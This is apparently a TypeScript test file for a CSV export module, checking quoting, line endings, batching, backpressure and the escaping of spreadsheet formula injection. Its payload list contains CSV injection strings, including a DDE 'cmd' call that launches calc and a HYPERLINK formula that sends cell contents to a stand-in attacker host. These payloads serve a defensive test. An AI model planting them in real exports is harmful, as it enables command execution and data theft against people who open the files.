import test from 'ava';
import { parse } from 'csv-parse/sync';
import { csvStream } from '../../packages/files/write/csv.ts';
import { inBatches, type ExportRow } from '../../packages/files/write/rows.ts';

const columns = [
  { key: 'n', label: 'Number' },
  { key: 'subject', label: 'Subject' },
];

async function* batches(...all: ExportRow[][]): AsyncGenerator<ExportRow[]> {
  yield* all;
}

/** Returns the text after the byte order mark. */
async function written(rows: AsyncIterable<readonly ExportRow[]>, of = columns): Promise<string> {
  const [mark, ...text] = Buffer.concat(await csvStream(of, rows).toArray()).toString('utf8');
  if (mark !== '\ufeff') throw new Error('The file does not begin with a byte order mark');
  return text.join('');
}

const payloads = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("http://evil.example/?x="&A1;"click")`,
  `${sign}1+1`,
  `${sign}SUM(1,2)\r\nnext`,
  `${sign}"; DROP`,
  sign,
]);

test('60 formula payloads become text with a leading apostrophe', async (t) => {
  t.is(payloads.length, 60);
  const text = await written(batches(payloads.map((subject, n) => ({ n, subject }))));
  const records: string[][] = parse(text);
  t.deepEqual(
    records.slice(1),
    payloads.map((each, n) => [String(n), `'${each}`]),
  );
});

test('headings are escaped too', async (t) => {
  t.is(await written(batches(), [{ key: 'n', label: '=1+1' }]), '"\'=1+1"\r\n');
});

test('plain numbers stay numbers', async (t) => {
  const values = [-5, '-5', '-5.25', 0, 3.5, '-5-', '-5e3', '--5', '-'];
  const records: string[][] = parse(await written(batches(values.map((n) => ({ n })))));
  t.deepEqual(
    records.slice(1).map(([n]) => n),
    ['-5', '-5', '-5.25', '0', '3.5', "'-5-", "'-5e3", "'--5", "'-"],
  );
});

test('the file has a header, CRLF, quotes, and empty cells for null', async (t) => {
  const text = await written(batches([{ n: 1, subject: 'say "hi",\nGröße' }], [], [{ n: null, subject: true }, {}]));
  t.is(text, '"Number","Subject"\r\n"1","say ""hi"",\nGröße"\r\n"","true"\r\n"",""\r\n');
  t.is(await written(batches()), '"Number","Subject"\r\n');
});

test('the next batch is read only when the reader is ready', async (t) => {
  let read = 0;
  async function* endless() {
    for (;;) {
      read++;
      yield Array.from({ length: 500 }, (_, n) => ({ n, subject: 'x'.repeat(200) }));
    }
  }
  const stream = csvStream(columns, endless());
  const reader = stream[Symbol.asyncIterator]();
  await reader.next();
  await new Promise((resolve) => setImmediate(resolve));
  t.true(read <= 3, `${read} batches`);
  await reader.return?.();
  t.true(stream.destroyed);
});

test('an error while reading rows fails the stream', async (t) => {
  async function* broken(): AsyncGenerator<ExportRow[]> {
    yield [{ n: 1 }];
    throw new Error('database gone');
  }
  await t.throwsAsync(written(broken()), { message: 'database gone' });
});

test('single rows are grouped into batches', async (t) => {
  async function* single() {
    yield* [1, 2, 3, 4, 5];
  }
  t.deepEqual(await Array.fromAsync(inBatches(single(), 2)), [[1, 2], [3, 4], [5]]);
});

test('formulas after invisible characters or a semicolon are escaped', async (t) => {
  for (const [given, told] of [
    ['\u200b=1+1', "'\u200b=1+1"],
    ['\u00a0@SUM(1)', "'\u00a0@SUM(1)"],
    ['a;=1+1', "a;'=1+1"],
    ['a; b', 'a; b'],
  ] as const) {
    const text = await written(batches([{ n: 1, subject: given }]));
    t.true(text.includes(`"${told}"`), text);
  }
});
